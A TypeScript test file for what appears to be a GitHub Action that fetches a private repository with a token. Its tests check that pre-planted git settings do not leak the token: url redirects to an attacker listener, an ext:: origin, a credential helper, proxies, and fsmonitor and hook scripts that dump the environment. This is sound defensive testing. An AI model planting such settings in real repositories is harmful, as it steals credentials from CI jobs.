import { execFileSync } from 'node:child_process'
import { existsSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { runStep, type Step, type Texts } from '../action.js'
import { checkOut, makePullRequest, type PullRequest } from '../checkout.js'
import type { Repository } from '../repository.js'
import { makeSandbox, type Sandbox } from '../sandbox.js'
import { testFirst } from '../some-at-night.js'
import { isRoot, nobody } from '../without-root.js'
import { startGitHub } from './fake/fake-github.js'
import { startGitServer, startListener } from './fake/git-server.js'

const token = 'hidden-token'
const authorization = `basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`

interface Attack {
  readonly attacker: string
  readonly server: string
  /** A program that writes down its environment, and whether it ran. */
  readonly spy: string
}

/** A shallow checkout of a pull request, of a repository that nobody reads without the token. */
async function compare(attack: (work: Repository, places: Attack, sandbox: Sandbox) => Texts = () => ({})): Promise<{
  readonly step: Step
  readonly sandbox: Sandbox
  readonly heard: string
  readonly origin: PullRequest
}> {
  const sandbox = makeSandbox()
  const origin = makePullRequest(sandbox)
  origin.origin.git('clone', '--quiet', '--bare', origin.origin.path, sandbox.at('served/octo/words.git'))
  for (const commit of [origin.merge, origin.main])
    execFileSync('git', ['-C', sandbox.at('served/octo/words.git'), 'update-ref', `refs/pull/${commit}`, commit])
  await using server = await startGitServer(sandbox.at('served'), authorization)
  await using attacker = await startListener()
  await using github = await startGitHub()
  const work = checkOut(sandbox, origin.origin, origin.merge)
  work.git('remote', 'set-url', 'origin', `${server.url}/octo/words.git`)
  const spy = sandbox.write('spy', `#!/bin/sh\necho >> ${sandbox.at('seen')}; env >> ${sandbox.at('seen')}\n`)
  const variables = attack(work, { attacker: attacker.url, server: server.url, spy }, sandbox)
  const inputs = {
    command: 'sh built.sh',
    setup: 'cp source.sh built.sh',
    warmup: '0',
    rounds: '5',
    'github-token': token,
  }
  const step = await runStep(sandbox, {
    inputs,
    variables: {
      GITHUB_SERVER_URL: server.url,
      GITHUB_API_URL: github.url,
      GITHUB_REPOSITORY: 'octo/words',
      GITHUB_SHA: origin.merge,
      GITHUB_TOKEN: token,
      ...variables,
    },
  })
  return { step, sandbox, heard: attacker.heard.join('\n'), origin }
}

test('a private repository is fetched with the token, into a shallow checkout too', async () => {
  const { step, sandbox } = await compare()
  expect(step, step.stdout).toMatchObject({ status: 0, outputs: { status: 'regressed' } })
  const texts = readdirSync(sandbox.at('work/.git'), { recursive: true, encoding: 'utf8' })
    .map(path => join('work/.git', path))
    .filter(path => statSync(sandbox.at(path)).isFile())
    .map(path => sandbox.read(path))
  for (const secret of [token, authorization]) expect(texts.filter(text => text.includes(secret))).toEqual([])
})

test('files that the workspace lacks, or has with other bytes, are fetched with the token too', {
  tags: 'nightly',
}, async () => {
  for (const lose of ['partial', 'spoiled']) {
    const { step, origin } = await compare((work, _, sandbox) => {
      const base = work.git('cat-file', 'commit', 'HEAD').match(/^parent (\w+)$/m)![1]!
      work.git('fetch', '--quiet', '--no-tags', '--depth=1', `file://${sandbox.at('origin')}`, base)
      if (lose === 'partial') {
        work.git('config', 'extensions.partialClone', 'origin')
        work.git('config', 'remote.origin.promisor', 'true')
      } else {
        const object = work.git('rev-parse', `${base}:source.sh`)
        const bytes = execFileSync('git', ['hash-object', '--stdin', '-w'], { cwd: work.path, input: 'echo slow\n' })
        const place = (id: string): string => join(work.path, '.git/objects', id.slice(0, 2), id.slice(2))
        execFileSync('sh', [
          '-c',
          'mkdir -p "$(dirname "$2")"; rm -f "$2"; cp "$1" "$2"',
          '-',
          place(bytes.toString().trim()),
          place(object),
        ])
      }
      return {}
    })
    expect(step, step.stdout).toMatchObject({
      status: 0,
      outputs: { status: 'regressed', 'baseline-sha': origin.main },
    })
  }
})

testFirst<[string, (work: Repository, places: Attack, sandbox: Sandbox) => Texts]>(0, [
  [
    'an address that is replaced',
    (work, { attacker, server }) => {
      work.git('config', `url.${attacker}/.insteadOf`, `${server}/`)
      return {}
    },
  ],
  [
    'an origin that is a program',
    (work, { spy }) => {
      work.git('config', 'remote.origin.url', `ext::${spy}`)
      work.git('config', 'protocol.ext.allow', 'always')
      return {}
    },
  ],
  [
    'variables of git',
    (_, { attacker, server }) => ({
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: `url.${attacker}/.insteadOf`,
      GIT_CONFIG_VALUE_0: `${server}/`,
    }),
  ],
  [
    'a credential helper',
    (work, { spy }) => {
      work.git('config', 'credential.helper', `!${spy}`)
      return {}
    },
  ],
  [
    'an address that the user replaces',
    (_, { attacker, server }, sandbox) => {
      sandbox.write('.gitconfig', `[url "${attacker}/"]\n\tinsteadOf = ${server}/\n`)
      return {}
    },
  ],
  [
    'a proxy',
    (work, { attacker }) => {
      work.git('config', 'http.proxy', attacker)
      return {}
    },
  ],
  ['a proxy in a variable', (_, { attacker }) => ({ http_proxy: attacker, ALL_PROXY: attacker })],
])('whoever has set up %s before does not get the token', async (_, attack) => {
  const { step, sandbox, heard } = await compare(attack)
  const seen = existsSync(sandbox.at('seen')) ? sandbox.read('seen') : ''
  for (const secret of [token, authorization.slice(6)]) expect(`${heard}\n${seen}`).not.toContain(secret)
  expect(`${heard}${seen}`).not.toBe('')
  expect(step, step.stdout).toMatchObject({ status: 0, outputs: { status: 'regressed' } })
})

test('a monitor of files and hooks of the workspace do not run', { tags: 'nightly' }, async () => {
  const { step, sandbox } = await compare((work, { spy }, sandbox) => {
    work.git('config', 'core.fsmonitor', spy)
    for (const hook of ['post-checkout', 'reference-transaction'])
      sandbox.write(`work/.git/hooks/${hook}`, `#!/bin/sh\nexec ${spy}\n`)
    return {}
  })
  expect(step, step.stdout).toMatchObject({ status: 0, outputs: { status: 'regressed' } })
  expect(existsSync(sandbox.at('seen')) && sandbox.read('seen')).toBe(false)
})

test.runIf(isRoot)(
  'in a container the workspace is another user’s, and is the job’s all the same',
  { tags: 'nightly' },
  async () => {
    const { step } = await compare((_, __, sandbox) => {
      sandbox.write('.gitconfig', '[user]\n\tname = Tester\n')
      execFileSync('chown', ['-R', `${nobody}:${nobody}`, sandbox.at('work')])
      return {}
    })
    expect(step, step.stdout).toMatchObject({ status: 0, outputs: { status: 'regressed' } })
  },
)
